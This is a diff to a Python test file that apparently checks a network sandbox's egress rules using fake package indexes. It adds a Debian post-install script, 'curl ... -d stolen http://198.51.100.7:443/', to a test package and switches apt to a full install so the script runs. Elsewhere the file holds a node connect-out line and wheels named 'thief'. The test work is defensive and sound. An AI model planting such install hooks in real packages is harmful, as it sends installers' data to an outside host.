@@ -26,6 +26,7 @@ GRANT = '\n[[allow]]\nid = "{name}"\nhost = "{name}.test"\nports = [80, 443]\nse
 RULES = "".join(GRANT.format(name=name) for name in ("pypi", "files", "npm", "apt"))
 SITE = Path(pip.__file__).parents[1]
 UV = Path(sys.executable).with_name("uv")
+POSTINST = "curl -sS -m 3 -d stolen http://198.51.100.7:443/ || true"
 PIP = (
     "PIP_RESUME_RETRIES=0 PYTHONPATH=/opt/site PIP_DISABLE_PIP_VERSION_CHECK=1 PIP_RETRIES=0 PIP_NO_CACHE_DIR=1 "
     "PIP_BREAK_SYSTEM_PACKAGES=1 python3 -m pip"
@@ -45,13 +46,17 @@ def build_wheel(directory, *rest):
 """A build backend that a source distribution brings along: it runs when pip builds it."""
 NODE_OUT = "node -e \"require('net').connect(443, '198.51.100.7').on('error', e => process.exit(0))\""
 APT = (
-    "rm -rf /tmp/apt && mkdir -p /tmp/apt/lists/partial /tmp/apt/cache/archives/partial /tmp/apt/etc/apt.conf.d "
-    "/tmp/apt/etc/preferences.d && cd /tmp/apt && : > status && "
+    "rm -rf /tmp/apt /tmp/root && mkdir -p /tmp/apt/lists/partial /tmp/apt/cache/archives/partial /tmp/apt/etc/apt.conf.d "
+    "/tmp/apt/etc/preferences.d /tmp/root/var/lib/dpkg/updates /tmp/root/var/lib/dpkg/info /tmp/root/var/lib/dpkg/triggers && "
+    "cd /tmp/apt && : > /tmp/root/var/lib/dpkg/status && "
     "echo 'deb [trusted=yes] http://apt.test/debian stable main' > etc/sources.list && "
-    "O='-o Dir::Etc=/tmp/apt/etc -o Dir::State=/tmp/apt -o Dir::State::status=/tmp/apt/status -o Dir::Cache=/tmp/apt/cache "
-    "-o APT::Architecture=amd64 -o APT::Sandbox::User= -o Acquire::Retries=0 -o Acquire::Languages=none' && "
-    "apt-get $O update && apt-get $O download {name}"
+    "export PATH=/usr/sbin:/sbin:/usr/bin:/bin DEBIAN_FRONTEND=noninteractive && "
+    "O='-o Dir::Etc=/tmp/apt/etc -o Dir::State=/tmp/apt -o Dir::State::status=/tmp/root/var/lib/dpkg/status "
+    "-o Dir::Cache=/tmp/apt/cache -o Dir::Log=/tmp/apt -o APT::Architecture=amd64 -o APT::Sandbox::User= -o Acquire::Retries=0 "
+    "-o Acquire::Languages=none -o DPkg::Options::=--root=/tmp/root -o DPkg::Options::=--force-script-chrootless' && "
+    "apt-get $O update && apt-get $O -y install {name}"
 )
+"""apt with a package database of its own: the host's tree has none."""
 
 
 class World:
@@ -95,7 +100,9 @@ class World:
                 name, "1.0", source="stolen = True\n" + f"# {os.urandom(1_000_000).hex()}\n" * (name != "forged")
             )
             self.index.served[f"/files/{name}-1.0-py3-none-any.whl"] = bad
-        self.index.add_deb("tool", "1:2.0", make_deb("tool", "1:2.0", {"/opt/tool": "#!/bin/sh\necho tool\n"}))
+        self.index.add_deb(
+            "tool", "1:2.0", make_deb("tool", "1:2.0", {"/opt/tool": "#!/bin/sh\necho tool\n"}, postinst=POSTINST)
+        )
         self.index.add_deb("broken", "1.0", make_deb("broken", "1.0", {"/opt/broken": "x"}))
         self.index.served["/debian/pool/main/broken_1.0_all.deb"] = b"!<arch>\nnot what was promised"
         self.thief = make_wheel("thief", "1.0")
@@ -137,7 +144,7 @@ async def use_clients(world: World, sb: vallum.Sandbox) -> None:
     await sh(
         sb,
         "apt",
-        APT.format(name="tool") + " && dpkg-deb -x /tmp/apt/tool*.deb /tmp/tool && /bin/sh /tmp/tool/opt/tool",
+        APT.format(name="tool") + " && sh /tmp/root/opt/tool",
     )
     await sh(sb, "sdist", f"{PIP} install -v {INDEX} --target /tmp/sdist --no-build-isolation builds")
     await sh(sb, "pip-html", "curl -sS -H 'Accept: text/html' https://pypi.test/simple/granted/")
